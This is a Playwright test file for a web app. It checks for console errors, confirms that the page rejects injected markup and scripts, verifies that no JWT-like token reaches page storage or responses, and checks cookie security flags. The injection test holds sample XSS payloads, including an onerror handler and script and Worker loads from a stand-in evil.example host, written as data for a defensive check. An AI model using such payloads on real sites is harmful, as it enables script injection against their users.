import { expect, test, type Page } from '@playwright/test';

import { demoServer } from './servers.ts';

/** Collects policy violations, script errors, and console errors and warnings. */
function collectErrors(page: Page): string[] {
  const found: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') found.push(message.text());
  });
  page.on('pageerror', (error) => found.push(error.message));
  return found;
}

for (const path of ['/', '/?product=20001&quantity=100', '/products', '/products/20001?quantity=100']) {
  test(`${path} violates no policy and logs no error`, async ({ page }) => {
    const found = collectErrors(page);
    await page.goto(path);
    await expect(page.locator('main')).toBeVisible();
    await page.waitForLoadState('networkidle');
    await page.keyboard.press('ControlOrMeta+k');
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
    await page.getByRole('button', { name: 'Keyboard shortcuts' }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    expect(found).toEqual([]);
  });
}

test('the page accepts no injected markup or script', async ({ page }) => {
  await page.goto('/');
  const refusals = await page.evaluate(() =>
    [
      () => (document.body.innerHTML = '<img src="x" onerror="alert(1)">'),
      () => document.write('<p>x</p>'),
      () => (document.createElement('script').src = 'https://evil.example/x.js'),
      () => (document.createElement('script').text = 'alert(1)'),
      () => new Worker('https://evil.example/x.js'),
      () => document.createElement('div').setAttribute('onclick', 'alert(1)'),
    ].map((attempt) => {
      try {
        return String(attempt());
      } catch (error) {
        return (error as Error).name;
      }
    }),
  );
  expect(refusals).toEqual(Array.from(refusals, () => 'TypeError'));
});

test('no credential reaches the page, its storage or its scripts', async ({ page, context }) => {
  const bodies: string[] = [];
  page.on('response', async (response) => {
    bodies.push(JSON.stringify(await response.allHeaders()), await response.text().catch(() => ''));
  });
  await page.goto('/?product=20001&quantity=100');
  await expect(page.getByRole('region', { name: 'Result', exact: true }).locator('time').first()).toBeVisible();
  const kept = await page.evaluate(() =>
    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]),
  );
  // A JWT starts with the base64url form of `{"`.
  expect([kept, ...bodies].join('\n')).not.toMatch(/eyJ[\w-]{10,}\.[\w-]{10,}\./);
  expect(await page.evaluate(() => document.cookie)).toBe('');
  // The local user has no session; signing out is remembered.
  expect(await context.cookies()).toEqual([]);
  await page.evaluate(() => fetch('/gateway/session', { method: 'DELETE' }));
  const cookies = await context.cookies();
  expect(cookies.length).toBeGreaterThan(0);
  for (const cookie of cookies) expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
});

test('the demo data is announced with the way to import real data', async ({ page }) => {
  await page.goto(`${demoServer.url}/`);
  await expect(page.getByText(/demo data/i).first()).toBeVisible();
  await page.getByRole('button', { name: 'Demo data' }).click();
  await expect(page.getByText(/npm run import/).first()).toBeVisible();
});
